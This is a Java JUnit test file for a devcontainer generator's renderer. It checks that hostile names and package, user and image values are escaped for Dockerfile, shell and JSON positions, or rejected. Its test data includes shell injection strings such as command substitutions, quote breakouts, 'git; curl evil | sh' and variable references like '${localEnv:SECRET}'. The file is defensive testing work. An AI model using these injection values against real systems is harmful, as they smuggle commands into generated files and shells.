package io.github.dind.devcontainer.generate.render;

import io.github.dind.devcontainer.generate.files.GeneratedFileMarker;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import io.github.dind.devcontainer.generate.request.GenerateRequest;
import io.github.dind.devcontainer.generate.request.InvalidRequestException;
import io.github.dind.devcontainer.testing.DevcontainerSchema;
import io.github.dind.devcontainer.testing.Jsonc;
import io.github.dind.devcontainer.testing.Processes;
import io.github.dind.devcontainer.testing.Requests;
import com.fasterxml.jackson.databind.JsonNode;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Hostile values end up escaped for the exact position they stand in (and the files still parse,
 * and running them runs nothing but the intended command) or are rejected before anything is written.
 */
class HostileInputTest {

    /** The file a hostile value tries to create; it must never exist. */
    @TempDir
    static Path sentinelDirectory;

    private static String sentinel() {
        return sentinelDirectory.resolve("pwned").toString();
    }

    /**
     * Names that are legal free text: they must come out of every position unchanged, and none of
     * them may run anything. Each one that could run a command would create the sentinel file.
     */
    static Stream<String> acceptedNames() {
        String touch = "touch " + sentinel();
        return Stream.of(
                "$(" + touch + ")",
                "`" + touch + "`",
                "\"; " + touch + "; echo \"",
                "'; " + touch + "; echo '",
                "\\\"; " + touch + " #",
                "x\\`" + touch + "`",
                "semi;colon && " + touch + "||" + "x",
                "$HOME $1 $@ !! !$ %s %n",
                "single ' and double \" quotes",
                "back\\slash\\",
                "trailing backslash \\",
                "naïve café 日本語 🐳",
                "</script>{{mustache}}{{{triple}}}");
    }

    /** User templates that put the name in every position, each with the tag made for it. */
    private static Path userTemplates(Path directory) throws Exception {
        Files.writeString(directory.resolve("Dockerfile.mustache"), """
                FROM {{baseImage}}
                LABEL title="{{name.dockerfile}}"
                ENV PROJECT_NAME="{{name.dockerfile}}"
                RUN printf '%s\\n' "{{name.shell}}"
                ENTRYPOINT ["printf", "%s", "{{name.json}}"]
                """);
        Files.writeString(directory.resolve("startup.sh.mustache"), """
                #!/usr/bin/env bash
                set -euo pipefail
                name="{{name}}"
                printf '%s\\n' "$name" "{{name.shell}}"
                """);
        Files.writeString(directory.resolve("devcontainer.json.mustache"), """
                {
                  "name": "{{name}}",
                  "build": {"dockerfile": "Dockerfile", "context": "."},
                  "containerEnv": {"PROJECT_NAME": "{{name.json}}"},
                  "postStartCommand": "printf '%s\\\\n' \\"{{name.shell.json}}\\"",
                  "remoteUser": "root"
                }
                """);
        return directory;
    }

    @ParameterizedTest
    @MethodSource("acceptedNames")
    void aFreeTextNameRoundTripsThroughEveryPositionAndRunsNothing(String name, @TempDir Path templates)
            throws Exception {
        GenerateRequest spec = Requests.build(Requests.sample("debian").name(name));
        Map<String, String> files = bodies(new Renderer(userTemplates(templates)).render(spec));

        String dockerfile = files.get("Dockerfile");
        assertThat(EscapersTest.DockerfileWords.unquote(word(dockerfile, "LABEL title="))).isEqualTo(name);
        assertThat(EscapersTest.DockerfileWords.unquote(word(dockerfile, "ENV PROJECT_NAME="))).isEqualTo(name);
        assertThat(Jsonc.parse("{\"exec\": " + instruction(dockerfile, "ENTRYPOINT ") + "}").path("exec").get(2)
                .textValue()).isEqualTo(name);
        String run = instruction(dockerfile, "RUN ");
        for (String shell : List.of("bash", "sh")) {
            assertThat(ranAndPrinted(List.of(shell, "-c", run), "")).as(shell + " -c " + run).isEqualTo(name + "\n");
        }

        String script = files.get("startup.sh");
        assertThat(ranAndPrinted(List.of("bash", "-s"), script)).isEqualTo(name + "\n" + name + "\n");
        Processes.Result shellcheck = Processes.run(List.of("shellcheck", "-"), script);
        assertThat(shellcheck.exitCode()).as(shellcheck.stdout()).isZero();

        String json = files.get("devcontainer.json");
        JsonNode config = Jsonc.parse(json);
        assertThat(config.path("name").textValue()).isEqualTo(name);
        assertThat(config.path("containerEnv").path("PROJECT_NAME").textValue()).isEqualTo(name);
        assertThat(DevcontainerSchema.problems(json)).isEmpty();
        String postStart = config.path("postStartCommand").textValue();
        assertThat(ranAndPrinted(List.of("sh", "-c", postStart), "")).isEqualTo(name + "\n");
    }

    @ParameterizedTest
    @MethodSource("acceptedNames")
    void theBundledTemplatesCarryAFreeTextNameAndLabel(String name) throws Exception {
        GenerateRequest spec = Requests.build(Requests.sample("debian").name(name)
                .label("org.opencontainers.image.title", name));
        List<GeneratedFile> generated = new Renderer(null).render(spec);
        Map<String, String> files = bodies(generated);

        String json = GeneratedFileMarker.stamp(generated.stream()
                .filter(f -> f.fileName().equals("devcontainer.json")).findFirst().orElseThrow());
        assertThat(Jsonc.parse(json).path("name").textValue()).isEqualTo(name);
        assertThat(DevcontainerSchema.problems(json)).isEmpty();
        assertThat(EscapersTest.DockerfileWords.unquote(
                word(files.get("Dockerfile"), "LABEL org.opencontainers.image.title="))).isEqualTo(name);
    }

    /** A bare {{name}} in a Dockerfile serves a RUN line and a LABEL alike, for every name without a backtick. */
    @ParameterizedTest
    @MethodSource("acceptedNames")
    void aBareDockerfileValueIsSafeInRunAndLabelOrRejected(String name, @TempDir Path templates) throws Exception {
        Files.writeString(templates.resolve("Dockerfile.mustache"), """
                FROM {{baseImage}}
                LABEL title="{{name}}"
                RUN printf '%s\\n' "{{name}}"
                """);
        GenerateRequest spec = Requests.build(Requests.sample("debian").name(name));
        Renderer renderer = new Renderer(templates);
        if (name.contains("`")) {
            assertThatThrownBy(() -> renderer.render(spec))
                    .isInstanceOfSatisfying(TemplateException.class,
                            e -> assertThat(e.settings()).containsExactly("name"))
                    .hasMessageContaining("your template Dockerfile.mustache")
                    .hasMessageContaining("{{name.shell}} in a RUN line")
                    .hasMessageContaining("line 2");
            return;
        }
        String dockerfile = bodies(renderer.render(spec)).get("Dockerfile");
        assertThat(EscapersTest.DockerfileWords.unquote(word(dockerfile, "LABEL title="))).isEqualTo(name);
        assertThat(ranAndPrinted(List.of("sh", "-c", instruction(dockerfile, "RUN ")), "")).isEqualTo(name + "\n");
    }

    @Test
    void aTagWhoseContextCannotStandInTheFileIsRefused(@TempDir Path templates) throws Exception {
        Files.writeString(templates.resolve("startup.sh.mustache"), "#!/bin/sh\necho \"{{name.json}}\"\n");
        Renderer renderer = new Renderer(templates);

        assertThatThrownBy(() -> renderer.render(Requests.build(Requests.sample("debian"))))
                .isInstanceOf(TemplateException.class)
                .hasMessageContaining("your template startup.sh.mustache")
                .hasMessageContaining("{{name.json}} writes a JSON string")
                .hasMessageContaining("{{name.json.shell}}");
    }

    @Test
    void aTripleMustacheWithAContextIsRefused(@TempDir Path templates) throws Exception {
        Files.writeString(templates.resolve("Dockerfile.mustache"), "FROM {{baseImage}}\nRUN echo \"{{{name.shell}}}\"\n");
        Renderer renderer = new Renderer(templates);

        assertThatThrownBy(() -> renderer.render(Requests.build(Requests.sample("debian"))))
                .isInstanceOf(TemplateException.class)
                .hasMessageContaining("is never escaped");
    }

    /**
     * Escaping is right only between double quotes: elsewhere (unquoted, single-quoted, where the
     * line is not known) only a plain value passes; in a comment anything without a line break.
     */
    @ParameterizedTest
    @MethodSource("positions")
    void aValueOutsideDoubleQuotesMustBePlain(String file, String template, boolean freeTextAllowed,
            @TempDir Path templates) throws Exception {
        Files.writeString(templates.resolve(file), template);
        Renderer renderer = new Renderer(templates);
        String free = "'; touch " + sentinel() + "; echo '";

        assertThat(renderer.render(Requests.build(Requests.sample("debian").name("plain-name_1.0")))).isNotEmpty();
        if (freeTextAllowed) {
            assertThat(renderer.render(Requests.build(Requests.sample("debian").name(free)))).isNotEmpty();
        } else {
            assertThatThrownBy(() -> renderer.render(Requests.build(Requests.sample("debian").name(free))))
                    .isInstanceOfSatisfying(TemplateException.class, e -> assertThat(e.settings()).contains("name"))
                    .hasMessageContaining("outside double quotes");
        }
    }

    static Stream<Arguments> positions() {
        return Stream.of(
                Arguments.of("Dockerfile.mustache", "FROM x\nRUN echo {{name.shell}}\n", false),
                Arguments.of("Dockerfile.mustache", "FROM x\nRUN echo '{{name.shell}}'\n", false),
                Arguments.of("Dockerfile.mustache", "FROM x\nRUN echo \"a\" {{name}}\n", false),
                Arguments.of("Dockerfile.mustache", "FROM x\nRUN echo '\"' {{name}}\n", false),
                Arguments.of("Dockerfile.mustache", "FROM x\nRUN echo {{#apt}}'{{/apt}}\"{{name.shell}}\"\n", false),
                Arguments.of("Dockerfile.mustache", "FROM x\nRUN echo '{{#apt}}\"{{name.shell}}\"{{/apt}}'\n", false),
                Arguments.of("Dockerfile.mustache", "FROM x\nLABEL a={{name.dockerfile}}\n", false),
                Arguments.of("Dockerfile.mustache", "FROM x\nRUN echo \"{{name.shell}}\"\n", true),
                Arguments.of("Dockerfile.mustache", "FROM x\n# built for {{name}}'s team\n", true),
                Arguments.of("startup.sh.mustache", "#!/bin/sh\necho \"it's\" {{name}}\n", false),
                Arguments.of("startup.sh.mustache", "#!/bin/sh\necho 'say \"' \"{{name}}\"\n", true),
                Arguments.of("startup.sh.mustache", "#!/bin/sh\necho hi # for {{name}}\n", true),
                Arguments.of("devcontainer.json.mustache", "{\n\"name\": {{name}}\n}\n", false),
                Arguments.of("devcontainer.json.mustache", "{\"name\": \"{{name}}\"}\n", true),
                Arguments.of("devcontainer.json.mustache", "{\n\"name\": \"a\\\"{{name}}\"\n}\n", true),
                Arguments.of("devcontainer.json.mustache", "{\n// for {{name}}\n\"image\": \"x\"}\n", true));
    }

    /** The escapers write backslash escapes: a template may not switch Docker's escape character. */
    @Test
    void aDockerfileThatChangesTheEscapeCharacterIsRefused(@TempDir Path templates) throws Exception {
        Files.writeString(templates.resolve("Dockerfile.mustache"),
                "# syntax=docker/dockerfile:1\n#  ESCAPE = `\nFROM {{baseImage}}\nLABEL t=\"{{name.dockerfile}}\"\n");
        Renderer renderer = new Renderer(templates);

        assertThatThrownBy(() -> renderer.render(Requests.build(Requests.sample("debian"))))
                .isInstanceOf(TemplateException.class)
                .hasMessageContaining("your template Dockerfile.mustache: it sets the parser directive escape=`");

        Files.writeString(templates.resolve("Dockerfile.mustache"),
                "# escape=\\\nFROM {{baseImage}}\n# escape=`\n");
        assertThat(new Renderer(templates).render(Requests.build(Requests.sample("debian")))).isNotEmpty();
    }

    /** devcontainer clients substitute ${...} in every string of devcontainer.json, escaped or not. */
    @Test
    void aVariableReferenceCannotReachDevcontainerJson(@TempDir Path templates) throws Exception {
        Files.writeString(templates.resolve("devcontainer.json.mustache"), """
                {"name": "x", "image": "x", "containerEnv": {
                {{#labels}}
                "{{key}}": "{{value}}",
                {{/labels}}
                "END": "1"}}
                """);
        GenerateRequest spec = Requests.build(Requests.sample("debian")
                .label("org.opencontainers.image.description", "see ${localEnv:HOME}"));
        Renderer renderer = new Renderer(templates);

        assertThatThrownBy(() -> renderer.render(spec))
                .isInstanceOf(TemplateException.class)
                .hasMessageContaining("The project's image label org.opencontainers.image.description")
                .hasMessageContaining("substituted as a variable");
    }

    /** Names no format can carry safely: rejected, naming the parameter. */
    static Stream<String> rejectedNames() {
        return Stream.of("line\nbreak", "carriage\rreturn", "tab\tchar", "nul\u0000char", "escape\u001b[31m",
                "bidi \u202e override", "line\u2028separator", "${localEnv:SECRET}", "", " ");
    }

    @ParameterizedTest
    @MethodSource("rejectedNames")
    void aNameNoFormatCanCarryIsRejected(String name) {
        assertThatThrownBy(() -> Requests.sample("debian").name(name).build())
                .isInstanceOf(InvalidRequestException.class)
                .hasMessageContaining("name \"");
    }

    static Stream<String> hostileTokens() {
        return Stream.of("git; curl evil | sh", "$(id)", "`id`", "pkg'quote", "pkg\"quote", "pkg\nRUN id",
                "pkg\\", "ünïcode", "-o=APT::Foo", "--allow-unauthenticated", "pkg name", "");
    }

    @ParameterizedTest
    @MethodSource("hostileTokens")
    void aHostilePackageIsRejectedForEveryPackageManager(String pkg) {
        for (String distro : List.of("debian", "ubuntu", "alpine", "wolfi")) {
            assertThatThrownBy(() -> Requests.sample(distro).packages(List.of(pkg)).build())
                    .as(distro)
                    .isInstanceOf(InvalidRequestException.class)
                    .hasMessageContaining("packages \"");
        }
    }

    @ParameterizedTest
    @MethodSource("hostileTokens")
    void aHostileUserIsRejected(String user) {
        assertThatThrownBy(() -> Requests.sample("debian").remoteUser(user).build())
                .isInstanceOf(InvalidRequestException.class)
                .hasMessageContaining("remoteUser \"");
    }

    /** The tokens minus the empty one: an empty base image means "the distro's default". */
    static Stream<String> hostileImages() {
        return hostileTokens().filter(token -> !token.isEmpty());
    }

    @ParameterizedTest
    @MethodSource("hostileImages")
    void aHostileBaseImageIsRejected(String image) {
        assertThatThrownBy(() -> Requests.sample("debian").baseImage(image).build())
                .isInstanceOf(InvalidRequestException.class)
                .hasMessageContaining("baseImage \"");
    }

    private static Map<String, String> bodies(List<GeneratedFile> files) {
        return files.stream().collect(Collectors.toMap(GeneratedFile::fileName, GeneratedFile::body));
    }

    /** The rest of the one line that starts with {@code start}. */
    private static String instruction(String file, String start) {
        List<String> lines = file.lines().filter(line -> line.startsWith(start)).toList();
        assertThat(lines).as(file).hasSize(1);
        return lines.get(0).substring(start.length());
    }

    /** The double-quoted word of a {@code LABEL key="..."} or {@code ENV key="..."} line. */
    private static String word(String file, String start) {
        String word = instruction(file, start);
        assertThat(word).as(start).matches("\".*\"");
        return word;
    }

    /** Runs a shell, checks it succeeded and created no sentinel, and returns what it printed. */
    private static String ranAndPrinted(List<String> command, String stdin) {
        Processes.Result result = Processes.run(command, stdin);
        assertThat(Path.of(sentinel())).as("a value ran a command: %s", command).doesNotExist();
        assertThat(result.exitCode()).as(result.stderr()).isZero();
        assertThat(result.stderr()).isEmpty();
        return result.stdout();
    }
}
